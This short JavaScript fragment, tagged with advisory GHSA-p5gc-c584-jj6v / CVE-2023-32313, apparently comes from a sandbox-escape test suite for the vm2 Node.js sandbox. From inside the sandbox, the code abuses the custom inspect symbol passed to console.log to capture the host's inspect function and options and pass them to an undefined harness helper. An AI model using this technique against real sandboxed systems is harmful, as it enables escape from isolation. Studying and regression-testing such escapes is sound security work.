// GHSA-p5gc-c584-jj6v CVE-2023-32313
// The inspect of the console of the host is changed from inside.
var seen = [];
console.log({ [Symbol.for('nodejs.util.inspect.custom')]: (depth, options, inspect) => { seen.push(options, inspect); return ''; } });
for (const object of seen) await useObject(object);
return found;
